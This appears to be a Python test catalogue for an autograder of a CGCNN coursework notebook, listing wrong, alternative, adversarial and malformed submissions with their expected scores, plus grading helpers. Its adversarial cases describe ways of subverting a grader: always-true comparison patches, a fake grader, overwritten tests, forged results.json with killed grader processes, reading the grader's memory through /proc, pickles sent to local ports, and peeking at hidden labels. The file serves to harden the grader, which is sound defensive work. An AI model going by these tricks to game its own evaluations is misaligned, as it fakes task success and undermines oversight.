    Case("q2b_bn1_per_neighbour_slot", "wrong", "bn1 normalises each neighbour slot on its own: same in "
         "eval mode (public test), other statistics in training mode (hidden)",
         replace("class GatedConv", BN1, "gated = torch.stack([self.bn1(gated[:, k]) for k in range(m)], dim=1)"),
         full(q2b=0, q4b=0), message=GATED),
    Case("q2b_concat_wrong_order", "wrong", "gated convolution concatenating neighbour, centre, edge "
         "(the task says centre, neighbour, edge)",
         body("class GatedConv", _gated_concat("neighbour", "centre")), full(q2b=0, q4b=0), message=GATED),
    Case("q2b_inplace_residual", "wrong", "residual added in place (`atom_fea += ...`): the forward values "
         "are right, but backward fails (the input was saved for the gradient of fc_full), so training stops at "
         "its first batch; q2b's backward test (public, and the grader's) says so in its first line",
         replace("class GatedConv", "return self.softplus2(atom_fea + self.bn2(summed))",
                 "atom_fea += self.bn2(summed)\n        return self.softplus2(atom_fea)"),
         full(q2b=0, q4b=0), message=r"(?m)^test_backward: backward through GatedConv failed: an in-place "
                                     r"operation on the input"),
    # -- wrong: part 3 ------------------------------------------------------------------------
    Case("q3_sum_instead_of_mean", "wrong", "mean pooling that sums (no division by the atom counts): an "
         "intensive property predicted from an extensive sum; 4b is not scored (the network is not the "
         "notebook's own)",
         replace("def mean_pool", "return summed / counts[:, None]", "return summed"), full(q3=0, q4b=0),
         message=GATED),
    Case("q3_max_over_whole_batch", "wrong", "max pooling over the whole batch instead of per crystal "
         "(training uses mean pooling)",
         body("def mean_pool", "return atom_fea.max(dim=0).values.expand(n_crystals, -1)", block=1), full(q3=0, q4b=0), message=GATED),
    Case("q3_max_include_self", "wrong", "max pooling with include_self=True over zeros: negative maxima become 0",
         replace("def mean_pool", "include_self=False", "include_self=True"), full(q3=0, q4b=0), message=GATED),
    Case("q3_max_pool_without_gradient", "wrong", "max pooling computed in numpy: right values, no "
         "gradient (Part 5's max-pooling run would train the head alone); training uses mean pooling",
         body("def mean_pool", """
             x, c = atom_fea.detach().numpy(), crystal_idx.numpy()
             return torch.from_numpy(np.stack([x[c == k].max(axis=0) for k in range(n_crystals)]))
         """, block=1), full(q3=0, q4b=0), message="gradients must flow through max pooling"),
    Case("q3_assumes_sorted_crystal_idx", "wrong", "pooling that splits the rows into consecutive runs, "
         "right only when crystal_idx is sorted (as in the training batches): q3 fails, 4a, whose checks keep "
         "each crystal's atoms together, does not; 4b is not scored (q3 failed)",
         edits(body("def mean_pool", """
                   counts = torch.bincount(crystal_idx, minlength=n_crystals).tolist()
                   return torch.stack([rows.mean(dim=0) for rows in atom_fea.split(counts)])
               """),
               body("def mean_pool", """
                   counts = torch.bincount(crystal_idx, minlength=n_crystals).tolist()
                   return torch.stack([rows.max(dim=0).values for rows in atom_fea.split(counts)])
               """, block=1)),
         full(q3=0, q4b=0), message="mean pooling is wrong on a batch"),
    Case("q3_reshape_equal_sizes", "wrong", "mean pooling by reshape, right only when every crystal has "
         "the same number of atoms; the network then fails on 4a's batches and on the training batches, "
         "which mix sizes, so 4a and 4b fail too",
         body("def mean_pool", "return atom_fea.reshape(n_crystals, -1, atom_fea.shape[1]).mean(dim=1)"),
         full(q3=0, q4a=0, q4b=0)),
    # -- wrong: part 4 ------------------------------------------------------------------------
    Case("q4a_no_activation_in_head", "wrong", "CGCNN head without the two softplus activations",
         replace("class CGCNN", "hidden = self.softplus(self.conv_to_fc(self.softplus(crystal)))",
                 "hidden = self.conv_to_fc(crystal)"), full(q4a=0, q4b=0), message=GATED),
    Case("q4a_ignores_pool_option", "wrong", "CGCNN always mean-pools, whatever `pool` says",
         replace("class CGCNN", "crystal = self.pool(x,", "crystal = mean_pool(x,"), full(q4a=0, q4b=0), message=GATED),
    Case("q4a_no_squeeze", "wrong", "CGCNN returns shape (C, 1): the loss then broadcasts (C, 1) against "
         "(C,) and the model learns the mean, so 4b fails too",
         replace("class CGCNN", "return self.fc_out(hidden).squeeze(-1)", "return self.fc_out(hidden)"),
         full(q4a=0, q4b=0)),
    Case("q4b_no_optimizer_step", "wrong", "train_epoch never calls optimizer.step(): the model stays as initialised",
         replace("def train_epoch", STEP, ""), full(q4b=0)),
    Case("q4b_diverges", "wrong", "learning rate 1e3: training diverges (test MAE in the thousands of eV/atom)",
         replace(TRAINING, "normalizer, data.targets, EPOCHS)", "normalizer, data.targets, EPOCHS, lr=1e3)"),
         full(q4b=0)),
    Case("q4b_predicts_training_mean", "wrong", "a model that predicts the training mean for every crystal",
         insert(TRAINING, MEAN_MODEL), full(q4b=0)),
    Case("q4b_learning_rate_too_small", "wrong", "learning rate 3e-5, a hundred times too small: test "
         "MAE about 0.12 eV/atom, between the threshold and 1.5 times it, so 5 of 7 points",
         replace(TRAINING, "normalizer, data.targets, EPOCHS)", "normalizer, data.targets, EPOCHS, lr=3e-5)"),
         full(q4b=5), recipe="full"),
    Case("q4b_1000_epochs", "wrong", "EPOCHS = 1000: the training cell passes the CPU-time limit of a cell and "
         "is stopped; a model cut off wherever the limit fell is not scored, and 4b's first line says which cell "
         "was stopped, and the time budget",
         replace(GRAPHS, "BATCH_SIZE, EPOCHS = 64, 60", "BATCH_SIZE, EPOCHS = 64, 1000"), full(q4b=0), recipe="full",
         stopped="cpu", message=r"(?m)^Not scored: the cell starting 'model, val_pred = None, \{\}' was stopped "
                                r"after \d+ s .*time limit.*, before the check of q4b"),
    Case("setup_imports_a_missing_package", "wrong", "the set-up cell imports a package the grader lacks "
         "(seaborn), so the names after that line are never defined: q1a (which reads `embedding`) and 4b (no "
         "data, no training) fail; issue 29: q1a said \"KeyError: 'embedding'\" (a lookup of the grader's) and the "
         "cell's own error was shown nowhere. The results open with it",
         replace(IMPORTS, "import matplotlib.pyplot as plt\n",
                 "import matplotlib.pyplot as plt\nimport seaborn as sns  # not in the grader's image\n"),
         full(q1a=0, q4b=0), trains=False,
         message=r"^Your notebook's cell starting 'import random' raised ModuleNotFoundError: No module named 'seaborn'"),
    # -- alternative correct ------------------------------------------------------------------
    Case("alt_loops", "alternative", "loops instead of vectorised code: atom features, neighbours from "
         "get_all_neighbors, the shared convolution over neighbour slots, pooling per crystal",
         edits(body("def atom_features", """
                   rows = np.zeros((len(structure), len(embedding[8])), dtype=np.float32)
                   for i, site in enumerate(structure):
                       rows[i] = embedding[site.specie.Z]
                   return rows
               """),
               body("def neighbor_list", """
                   n = len(structure)
                   nbr_idx = np.repeat(np.arange(n)[:, None], max_num_nbr, axis=1)
                   nbr_dist = np.full((n, max_num_nbr), radius + 1.0)
                   for i, nbrs in enumerate(structure.get_all_neighbors(radius)):
                       for k, nb in enumerate(sorted(nbrs, key=lambda nb: nb.nn_distance)[:max_num_nbr]):
                           nbr_idx[i, k], nbr_dist[i, k] = nb.index, nb.nn_distance
                   return nbr_idx, nbr_dist
               """),
               body("class SharedConv", """
                   out = self.fc_self(atom_fea)
                   for k in range(nbr_idx.shape[1]):
                       out = out + self.fc_neighbor(torch.cat([atom_fea[nbr_idx[:, k]], nbr_fea[:, k]], dim=1))
                   return self.softplus(out)
               """),
               body("def mean_pool", """
                   return torch.stack([atom_fea[crystal_idx == c].mean(dim=0) for c in range(n_crystals)])
               """),
               body("def mean_pool", """
                   return torch.stack([atom_fea[crystal_idx == c].max(dim=0).values for c in range(n_crystals)])
               """, block=1)),
         full()),
    Case("alt_float64", "alternative", "atom features, Gaussians, shared convolution and pooling "
         "computed in float64 and cast back",
         edits(replace("def atom_features", "for site in structure])", "for site in structure], dtype=np.float64)"),
               body("class SharedConv", """
                   x, e = atom_fea.double(), nbr_fea.double()
                   w = self.fc_neighbor.weight.double()
                   z = torch.cat([x[nbr_idx], e], dim=2)
                   pre = (z @ w.T).sum(dim=1) + x @ self.fc_self.weight.double().T + self.fc_self.bias.double()
                   return self.softplus(pre).to(atom_fea.dtype)
               """),
               body("def mean_pool", """
                   x = atom_fea.double()
                   summed = torch.zeros(n_crystals, x.shape[1], dtype=torch.float64).index_add_(0, crystal_idx, x)
                   counts = torch.bincount(crystal_idx, minlength=n_crystals).clamp(min=1).double()
                   return (summed / counts[:, None]).to(atom_fea.dtype)
               """)),
         full()),
    Case("alt_gaussian_float32", "alternative", "Gaussian expansion computed and returned in float32 (the "
         "batches are float32 anyway; the task names no dtype)",
         edits(replace("def gaussian_expand", "dtype=np.float64)[..., None]", "dtype=np.float32)[..., None]"),
               replace("def gaussian_expand", "return np.exp(-((d - centres) ** 2) / var ** 2)",
                       "return np.exp(-((d - centres.astype(np.float32)) ** 2) / np.float32(var) ** 2)")), full()),
    Case("alt_index_select_gather", "alternative", "neighbours gathered with torch.index_select and "
         "torch.gather instead of fancy indexing",
         edits(replace("class SharedConv", "atom_fea[nbr_idx].sum(dim=1)",
                       "torch.index_select(atom_fea, 0, nbr_idx.reshape(-1)).view(*nbr_idx.shape, -1).sum(dim=1)"),
               replace("class GatedConv", GATHER,
                       "gathered = torch.gather(neighbour, 0, nbr_idx.reshape(-1, 1).expand(-1, 2 * f)).view(n, m, 2 * f)")),
         full()),
    Case("alt_one_hot_pooling", "alternative", "pooling with a one-hot matrix product (mean) and a "
         "masked maximum, no scatter",
         edits(body("def mean_pool", """
                   one_hot = nn.functional.one_hot(crystal_idx, n_crystals).to(atom_fea.dtype).T  # (C, N)
                   return (one_hot @ atom_fea) / one_hot.sum(dim=1, keepdim=True).clamp(min=1)
               """),
               body("def mean_pool", """
                   member = nn.functional.one_hot(crystal_idx, n_crystals).T.bool()[:, :, None]  # (C, N, 1)
                   return torch.where(member, atom_fea[None], torch.tensor(float("-inf"), dtype=atom_fea.dtype)).amax(dim=1)
               """, block=1)),
         full()),
    Case("alt_pool_as_hinted", "alternative", "pooling written straight from the hints, with "
         "`torch.zeros(C, F)` in the default float32 (the network's dtype) for both sums and maxima",
         edits(body("def mean_pool", """
                   C, F = n_crystals, atom_fea.shape[1]
                   summed = torch.zeros(C, F).index_add_(0, crystal_idx, atom_fea)
                   return summed / torch.bincount(crystal_idx, minlength=C)[:, None]
               """),
               body("def mean_pool", """
                   C, F = n_crystals, atom_fea.shape[1]
                   index = crystal_idx[:, None].expand_as(atom_fea)
                   return torch.zeros(C, F).scatter_reduce(0, index, atom_fea, reduce="amax", include_self=False)
               """, block=1)),
         full()),
    Case("alt_tie_order_reversed", "alternative", "equal-distance neighbours in reverse index order "
         "(sort by distance, then by minus the index)",
         replace("def neighbor_list", NEIGHBOURS,
                 "nearest = mine[np.lexsort((-points[mine], np.round(dists[mine], 9)))][:max_num_nbr]"),
         full()),
    Case("alt_gated_concatenation", "alternative", "gated convolution in the literal concatenation form "
         "(slower, same numbers; issue 26: with the notebook's recipe its cells keep half of every time limit at half a "
         "CPU)", body("class GatedConv", _gated_concat("centre", "neighbour")), full(), recipe="full", margin=True),
    Case("alt_bn1_transposed", "alternative", "bn1 applied to (N, 2F, M) after a transpose: the same "
         "statistics over all N*M edges", replace("class GatedConv", BN1,
                                                 "gated = self.bn1(gated.transpose(1, 2)).transpose(1, 2)"),
         full()),
    Case("alt_pool_by_partial", "alternative", "the pool option's functions chosen as functools.partial of one "
         "pooling function (issue 29: the grader read the pooling's __name__ and refused to score 4b; it now runs "
         "the model's pool on a test batch)",
         edits(insert("class CGCNN", """
                   def _pool(atom_fea, crystal_idx, n_crystals, reduce="mean"):
                       return (mean_pool if reduce == "mean" else max_pool)(atom_fea, crystal_idx, n_crystals)


                   import functools
               """, after=False),
               replace("class CGCNN", 'self.pool = {"mean": mean_pool, "max": max_pool}[pool]',
                       "self.pool = functools.partial(_pool, reduce=pool)")),
         full()),
    Case("alt_check_cell_retyped", "alternative", "4b's check cell typed again with single quotes, and a later "
         "cell rebinds `model` to an untrained network (issue 29: the typed check was not recognised, and 4b "
         "scored the untrained model; a cell that is one grader.check call is the check, however written)",
         edits(insert(CHECK_4B, "model = CGCNN(nbr_fea_len=41)  # a Question 5 experiment, untrained"),
               replace(CHECK_4B, 'grader.check("q4b")', "grader.check('q4b')")),
         full()),  # the short recipe's model, not the untrained one: its recorded test MAE shows which 4b scored
    Case("alt_eight_neighbours", "alternative", "MAX_NUM_NBR = 8, as Part 5's table invites (issue 29: the "
         "held-out graphs kept 12 neighbours whatever the model trained with, test MAE 0.58, 0 of 7; they are now "
         "built with the notebook's RADIUS and MAX_NUM_NBR, and 4b says so)",
         replace(GRAPHS, "cgcnn_utils.GRAPH.max_num_nbr  # 8 A, 12 neighbours", "8  # 8 A, 8 neighbours"), full(), recipe="full",
         message=r"The held-out crystals' graphs were built with your notebook's MAX_NUM_NBR = 8\."),
    Case("alt_gradient_clipping", "alternative", "train_epoch with gradient clipping (norm 1)",
         replace("def train_epoch", STEP, "        nn.utils.clip_grad_norm_(model.parameters(), 1.0)\n" + STEP),
         full()),
    Case("alt_train_on_train_and_val", "alternative", "trains on the training and validation sets "
         "(legitimate: both are labelled in the student release)",
         train_on("train", "val"), full(), recipe="full"),
    # -- adversarial --------------------------------------------------------------------------
    Case("adv_patched_comparisons", "adversarial", "stubs left, and np.allclose, np.isclose, "
         "torch.allclose, assert_allclose, math.isclose made to always pass",
         edits(stubs(*ALL_PARTS), insert(IMPORTS, PATCH_COMPARISONS)), zero(), message=STUB_Q1A, trains=False),
    Case("adv_patched_abs", "adversarial", "wrong code (1c, 2b, 3) and abs, np.abs, torch.abs made to "
         "return zeros", edits(*WRONG_1C_2B_3, insert(IMPORTS, PATCH_ABS)), full(q1a=0, q1c=0, q2b=0, q3=0, q4b=0),
         message=GATED),
    Case("adv_repatched_before_checks", "adversarial", "wrong code (1c, 2b, 3); an IPython hook patches "
         "abs before every check", edits(*WRONG_1C_2B_3, insert(IMPORTS, REPATCH_BEFORE_CHECKS)),
         full(q1c=0, q2b=0, q3=0, q4b=0), message=GATED),
    Case("adv_reads_hidden_tests", "adversarial", "gaussian_expand wrong (`/ var`) unless it finds q1c's "
         "hidden test on disk (it finds none: as q1c_var_not_squared, 4b between the threshold and 1.5 times it)",
         body("def gaussian_expand", READS_HIDDEN_TEST), full(q1c=0, q4b=5), message=STEP_AWAY),
    Case("adv_peeks_at_expected", "adversarial", "gaussian_expand right for the public grid only, and "
         "returns any `want` it finds up the stack", body("def gaussian_expand", PEEKS_AT_EXPECTED), full(q1c=0),
         message="values differ for grid"),
    Case("adv_hardcoded_public_output", "adversarial", "atom_features returns the SrTiO3 rows of the "
         "public test whatever the crystal",
         body("def atom_features", "return np.stack([embedding[z] for z in (38, 22, 8, 8, 8)]).astype(np.float32)"),
         full(q1a=0, q4b=0), message=r"expected \(20, 92\)"),
    Case("adv_reads_labels", "adversarial", "an untrained model, and a search for the held-out labels",
         edits(replace("def train_epoch", STEP, ""), insert(TRAINING, READ_LABELS)), full(q4b=0),
         message=UNTRAINED),
    Case("adv_overwrites_labels", "adversarial", "an untrained model, and the held-out files overwritten",
         edits(replace("def train_epoch", STEP, ""), insert(TRAINING, OVERWRITE_LABELS)), full(q4b=0),
         message=UNTRAINED),
    Case("adv_lookup_table", "adversarial", "an untrained model, and a table of held-out labels computed "
         "elsewhere sent with it (the grader predicts the held-out crystals itself)",
         edits(replace("def train_epoch", STEP, ""), _lookup_table()), full(q4b=0), message=UNTRAINED),
    Case("adv_lookup_table_hollow", "adversarial", "stubs only, and a table of held-out labels sent as the "
         "trained model", edits(stubs(*ALL_PARTS), _lookup_table(hollow=True)), zero(), message=STUB_Q1A,
         trains=False),
    Case("adv_shipped_support_module", "adversarial", "the zip ships a cgcnn_utils.py whose predict() "
         "returns the mean: the autograder's copy wins", None, full(), upload="zip",
         files=_support_module_predicting_the_mean),
    Case("adv_shipped_data", "adversarial", "the zip ships a data/ directory with wrong training labels: "
         "the autograder's copy wins", None, full(), upload="zip", files=_data_with_a_wrong_label),
    Case("adv_torch_geometric", "adversarial", "GatedConv built on torch_geometric's CGConv (not installed)",
         replace("class GatedConv", "        self.atom_fea_len = atom_fea_len\n",
                 "        from torch_geometric.nn import CGConv\n        self.atom_fea_len = atom_fea_len\n"),
         full(q2b=0, q4a=0, q4b=0), message="No module named 'torch_geometric", trains=False),
    Case("adv_fake_grader", "adversarial", "stubs left, and `grader` replaced by an object whose check() "
         "always reports success", edits(stubs(*ALL_PARTS), insert("grader = otter.Notebook", FAKE_GRADER)),
         zero(), message=STUB_Q1A, trains=False),
    Case("adv_overwrites_tests", "adversarial", "stubs left, and every test in tests/*.py rewritten",
         edits(stubs(*ALL_PARTS), insert(IMPORTS, OVERWRITE_TESTS)), zero(), message=STUB_Q1A, trains=False),
    Case("adv_patched_checker", "adversarial", "stubs left, and otter's Checker patched",
         edits(stubs(*ALL_PARTS), insert(IMPORTS, PATCH_CHECKER)), zero(), message=STUB_Q1A, trains=False),
] + [
    # -- the six findings of issue 11: a hollow notebook and an untrained model each -------------
    Case(f"adv_{name}_{kind}", "adversarial", f"{what} ({'stubs only' if kind == 'hollow' else 'an untrained model'})",
         edits(stubs(*ALL_PARTS) if kind == "hollow" else replace("def train_epoch", STEP, ""),
               insert(TRAINING if where == "train" else CHECK_4B, code)),
         zero() if kind == "hollow" else full(q4b=0), trains=kind != "hollow", marker=marker,
         message=said.get(kind) or (STUB_Q1A if kind == "hollow" else UNTRAINED))
    for name, what, code, where, marker, said in [
        ("forges_results", "a forged results.json and the grader's processes killed", FORGE_RESULTS_AND_KILL,
         "train", None, {"untrained": "kernel died while running the cell starting 'import glob, json, os, signal'"}),
        ("reads_memory", "the grader's memory read through /proc", READ_GRADER_MEMORY, "train", None, {}),
        ("detached_forger", "a detached process that rewrites results.json", DETACHED_FORGER, "train", None,
         {"hollow": ENDED, "untrained": ENDED}),
        ("pickles", "pickles sent to every local port and left as results", SEND_PICKLES, "train", PICKLE_MARKER, {}),
        ("swaps_verdicts", "otter's checker and the grader's probe replaced in the kernel", SWAP_VERDICTS, "train",
         None, {"untrained": "test_the_model_predicts_every_validation_crystal: the test could not use what your "
                             r"code gave \(AttributeError\)"}),
        ("retrains_after_check", "a later cell trains another model", RETRAIN_AFTER_CHECK, "check", None, {}),
    ] for kind in ("hollow", "untrained")
] + [
    # -- issue 24: answers the grader reads as data, or refuses (stubs only: each scores 0) -------
    Case(f"adv_{name}_hollow", "adversarial", f"stubs only, and {what}", edits(stubs(*ALL_PARTS), insert(IMPORTS, code)),
         zero(), message=said, trains=False)
    for name, what, code, said in [
        ("structure_answer", "every answer a pymatgen Structure dict whose site property names a module and a "
         "class for monty's decoder to import and build: refused, nothing decoded", STRUCTURE_ANSWER,
         r"test_srtio3: not checked: it is an object \(keys '__structure__', \.\.\.\); answers are numbers, "
         r"strings, lists, arrays and the tagged values of cgcnn_kernel only"),
        ("huge_array_header", "every answer a .npy array whose header declares 64 GiB (a MemoryError gave an "
         "Autograder Error): refused before anything is allocated", HUGE_ARRAY_HEADER,
         r"its array's header declares 64 GiB"),
        ("deep_message", "every answer, and the kernel's message that carries it, nested 5,000 lists deep (a "
         "RecursionError in the grader's JSON decoding gave an Autograder Error): the message is refused "
         "undecoded and every part still gets its verdict", DEEP_MESSAGE,
         r"(?m)^test_srtio3: not checked: the kernel's answers were refused \(a message nested \d+ levels deep "
         r"\(at most \d+\)\)"),
    ]
] + [
    # -- malformed or hostile -----------------------------------------------------------------
    Case("zip_without_notebook", "malformed", "a zip with no notebook in it", None, zero(),
         message=r"(?i)\bno (notebook|\.ipynb|gradable)", upload="no-notebook", trains=False, graded=False),
    Case("truncated_notebook", "malformed", "a notebook cut off halfway (invalid JSON)", None, zero(),
         message="could not be read", upload="truncated", trains=False, graded=False),
    Case("wrong_assignment_metadata", "malformed", "another assignment's name in the notebook metadata",
         lambda nb: nb.metadata["otter"].update(assignment_name="hw03"), zero(),
         message="Received submission for assignment 'hw03'", upload="zip", trains=False, graded=False),
    Case("renamed_notebook_zip", "malformed", "the notebook renamed my_submission.ipynb, uploaded in a zip",
         None, full(), upload="zip", nb_name="my_submission.ipynb"),
    Case("endless_loop", "malformed", "a cell that loops forever: stopped at its CPU time limit, every part scored",
         insert(IMPORTS, "while True:\n    pass"), full(), upload="zip", stopped="cpu",
         message=r"the cell starting 'while True:' was stopped after \d+ s of CPU time \(time limit\)"),
    Case("sleeps_an_hour", "malformed", "a cell that sleeps for an hour: stopped at its wall-clock limit, every part scored",
         insert(IMPORTS, "import time\ntime.sleep(3600)"), full(), message="time limit", upload="zip", stopped="wall"),
    Case("allocates_8_TB", "malformed", "a cell that allocates far more memory than exists: MemoryError, "
         "every part scored", insert(IMPORTS, "big = np.ones((10**6, 10**6))"), full(), upload="zip"),
    Case("part1_raises", "malformed", "atom_features raises an exception: 1a fails with its message, and 4b, "
         "which builds graphs with it", body("def atom_features", 'raise RuntimeError("atom_features is broken")'),
         full(q1a=0, q4b=0), message="atom_features is broken", upload="zip", trains=False),
    Case("kernel_dies", "malformed", "a cell that kills the kernel after part 1: parts 1a to 1c, checked "
         "before, keep their points; the rest say why", insert("grader.check(\"q1c\")", "import os\nos._exit(1)"),
         zero(q1a=2, q1b=4, q1c=2), message="kernel died", upload="zip", trains=False),
] + [
    # -- determinism --------------------------------------------------------------------------
    Case(f"solution_run_{k}", "determinism", "the unmodified solution, graded again: 30/30 every time",
         None, full()) for k in (1, 2, 3)
]


# The test MAE each case's grading measured (eV/atom), written by `python -m tests.submissions grade
# --record` and checked against every run of tests/test_submissions.py.
MEASURED_FILE = Path(__file__).with_name("catalogue_mae.json")
MEASURED_MAE: dict[str, float] = json.loads(MEASURED_FILE.read_text()) if MEASURED_FILE.is_file() else {}
# eV/atom: how far a grading's test MAE may lie from the recorded one. On the CPU kind that recorded it
# a re-run repeats it exactly; torch's and MKL's kernels for another instruction set train a slightly
# different model: the notebook's recipe at most 0.0005 apart, measured (docs/instructors.md, "Reproducible
# releases"); the short recipe's eight steps up to 0.0030 (0.43 %: eight cases, trained and untrained,
# graded with ATEN_CPU_CAPABILITY=default against their AVX-512 records), within MAE_REL_TOLERANCE.
MAE_TOLERANCE = 0.002
MAE_REL_TOLERANCE = 0.01  # or 1 % of the recorded MAE, whichever is larger (the short recipe's MAEs)


GRADESCOPE_CPUS = 0.5  # Gradescope's default container: a cell's wall-clock time there is its CPU time / 0.5


def over_half_limits(results: dict, limits: Limits = Limits()) -> list[str]:
    """What of a grading's cells (results.json's extra_data.cells, each with its CPU seconds) would pass
    half of a time limit in Gradescope's container: a cell's CPU time against half of cell_cpu_seconds,
    its wall-clock time at half a CPU (CPU / GRADESCOPE_CPUS) against half of cell_wall_seconds, and all
    cells' against half of total_seconds. From CPU time, not the wall-clock time measured here, which
    grows when other work shares the machine. Empty when every cell keeps a margin of 2x."""
    cells = results["extra_data"]["cells"]
    over = [f"{c['cell']!r}: {c['cpu_seconds']:.0f} CPU-s" for c in cells
            if c["cpu_seconds"] > limits.cell_cpu_seconds / 2
            or c["cpu_seconds"] / GRADESCOPE_CPUS > limits.cell_wall_seconds / 2]
    total = sum(c["cpu_seconds"] for c in cells) / GRADESCOPE_CPUS
    return over + ([f"all cells: {total:.0f} s at half a CPU"] if total > limits.total_seconds / 2 else [])


def same_mae(measured: float, recorded: float) -> bool:
    """Whether a grading's test MAE is the recorded one, as far as another CPU kind can move it."""
    return math.isclose(measured, recorded, rel_tol=MAE_REL_TOLERANCE, abs_tol=MAE_TOLERANCE)


# ---------------------------------------------------------------------------------------------
# Writing and grading submissions
# ---------------------------------------------------------------------------------------------

def base_notebook() -> nbformat.NotebookNode:
    """The solution notebook with its outputs stripped."""
    nb = nbformat.read(SOLUTION, as_version=4)
    nb.metadata.pop("widgets", None)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def notebook(case: Case, base: nbformat.NotebookNode | None = None) -> nbformat.NotebookNode:
    nb = copy.deepcopy(base if base is not None else base_notebook())
    if case.recipe == "short":
        shorten(nb)
    if case.edit is not None:
        case.edit(nb)
    return nb


def write_upload(case: Case, dest: Path, base: nbformat.NotebookNode | None = None) -> Path:
    """Write what the student uploads into `dest`: a notebook or a zip. Returns its path."""
    dest.mkdir(parents=True, exist_ok=True)
    text = nbformat.writes(notebook(case, base))
    if case.upload == "notebook":
        path = dest / case.nb_name
        path.write_text(text)
        return path
    members = {}
    if case.upload in ("zip", "truncated"):
        members[case.nb_name] = text[:len(text) // 2].encode() if case.upload == "truncated" else text.encode()
    elif case.upload == "no-notebook":
        members["answers.txt"] = b"I wrote my answers in the notebook.\n"
    else:
        raise CatalogueError(f"{case.name}: unknown upload {case.upload!r}")
    members.update(case.files() if callable(case.files) else case.files)
    path = dest / "submission.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def grade(case: Case, work: Path, zip_path: Path = build.AUTOGRADER_ZIP,
          base: nbformat.NotebookNode | None = None, user: str | None = None, prefix: list[str] = ()) -> dict:
    """Grade one case through Gradescope's entry point as the grading user `user` (the command wrapped
    in `prefix`); the whole run must end before Gradescope would kill it. Returns results.json."""
    upload = write_upload(case, work / "upload", base)
    return build.grade(zip_path, upload, prefix=prefix, timeout=GRADESCOPE_TIMEOUT, user=user)


def with_limits(zip_path: Path, dest: Path, limits: Limits = LIMITS) -> Path:
    """A copy of the autograder zip whose grading.json states `limits`, every other member the same."""
    with zipfile.ZipFile(zip_path) as z:
        members = {info: z.read(info) for info in z.infolist()}
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in members.items():
            if info.filename == SETTINGS_FILE:
                data = (json.dumps({**json.loads(data), "limits": dataclasses.asdict(limits)}, indent=1,
                                   sort_keys=True) + "\n").encode()
            out.writestr(info, data)
    return dest


def grade_all(cases: list[Case], work: Path, zip_path: Path = build.AUTOGRADER_ZIP,
              workers: int = WORKERS, keep: Path | None = None) -> dict[str, tuple[dict | Exception, float]]:
    """{case name: (results.json or the exception grading raised, seconds)}: the cases `workers` at a
    time (build.side_by_side: a grading user each, each on a CPU of its own), the longest first, with
    the cases that sleep until the wall-clock limit beside them. With `keep`, each results.json is also
    written there as NAME.json, and a case already there is read back instead of graded."""
    base = base_notebook()
    work.mkdir(parents=True, exist_ok=True)
    short_limits = with_limits(zip_path, work / "autograder-short-limits.zip")

    def run(case: Case, user: str, prefix: list[str]):
        kept = keep / f"{case.name}.json" if keep else None
        if kept and kept.is_file():
            return json.loads(kept.read_text()), 0.0
        start = time.perf_counter()
        try:
            outcome = grade(case, work / case.name, short_limits if case.stopped else zip_path, base, user, prefix)
        except Exception as err:  # noqa: BLE001 - reported by the case's own test
            outcome = err
        if kept and isinstance(outcome, dict):
            kept.parent.mkdir(parents=True, exist_ok=True)
            kept.write_text(json.dumps(outcome, indent=1))
        return outcome, time.perf_counter() - start

    # Every case on a CPU of its own (pinned, one grading per CPU), the longest first: a cell stopped at
    # its CPU-time limit then gets a whole core and reaches that limit long before its wall-clock one.
    # The cases that wait for the wall-clock limit (a sleeping cell) use no CPU while they wait: they
    # run from the start beside the others, unpinned, as grading users of their own.
    waiting = [c for c in cases if c.stopped == "wall"]
    busy = sorted((c for c in cases if c.stopped != "wall"), key=lambda c: -c.seconds)
    with ThreadPoolExecutor(1) as pool:
        waited = pool.submit(build.side_by_side, waiting, run, max(1, len(waiting)), False, workers + 1)
        done = dict(zip([c.name for c in busy], build.side_by_side(busy, run, workers)))
        done |= dict(zip([c.name for c in waiting], waited.result()))
    return done


def test_mae(results: dict) -> float | None:
    """The held-out MAE a results.json reports (None when the model made no predictions)."""
    return results.get("extra_data", {}).get("test_mae")


def outputs(results: dict) -> str:
    """Every message of a results.json, as one text."""
    return "\n".join([str(results.get("output", ""))] + [str(t.get("output", "")) for t in results.get("tests", [])])


# ---------------------------------------------------------------------------------------------
# The table
# ---------------------------------------------------------------------------------------------

def table() -> str:
    """docs/submissions.md, generated from the catalogue."""
    parts = list(POINTS)
    calibration = json.loads((ROOT / "assignment" / "calibration.json").read_text())
    full_mae, solution_mae = calibration["thresholds"]["mae_full"], calibration["seeds"]["0"]
    lines = ["# The autograder's catalogue of submissions", "",
             "Generated by `python -m tests.submissions` from `tests/submissions.py`; "
             "`tests/test_submissions.py` grades every case with the real autograder zip and checks these "
             "scores exactly. Each submission is the solution notebook with the edit described. Part 4b "
             "re-runs the training with the submission's own functions: *test MAE* is what that training "
             f"reached when measured (eV/atom; full credit up to {full_mae:g}, 5 points up to {1.5 * full_mae:g}, "
             f"3 up to {2 * full_mae:g}; the unmodified solution reaches {solution_mae:.3f}), so a wrong part that "
             "the model trains through keeps 4b.",
             "",
             f"Cases marked *full recipe* train as the notebook does ({RECIPE_LINE}); the others, whose point "
             f"is a part other than 4b's tier, train with the short recipe ({SHORT_EPOCHS} epochs on the first {SHORT_TRAIN} training "
             f"crystals in batches of {SHORT_BATCH}): its model is "
             f"far above twice the threshold, so they expect 0 for 4b, and the table says in brackets what the "
             "notebook's recipe would earn where that differs (it did when graded so on 2026-12-05).",
             ""]
    for category, title in CATEGORIES.items():
        cases = [c for c in CASES if c.category == category]
        lines += [f"## {title} ({len(cases)})", "",
                  "| case | what it tests | " + " | ".join(parts) + " | total | test MAE | message (regular expression) |",
                  "|---|---|" + "---:|" * (len(parts) + 2) + "---|"]
        for c in cases:
            scores = " | ".join(f"{c.expected[q]:g}" for q in parts)
            via = " *(full recipe)*" if c.recipe == "full" and c.trains else (
                f" (4b: {c.full_recipe['q4b']:g} with the notebook's recipe)" if c.full_recipe else "")
            message = f"`{c.message}`".replace("|", "\\|") if c.message else ""
            mae = f"{MEASURED_MAE[c.name]:.3g}" if c.name in MEASURED_MAE else ""
            lines.append(f"| `{c.name}` | {c.what}{via} | {scores} | {sum(c.expected.values()):g} | {mae} | {message} |")
        lines.append("")
    lines.append("Points per part: " + ", ".join(f"{q} {p}" for q, p in POINTS.items())
                 + f" (total {sum(POINTS.values())}).")
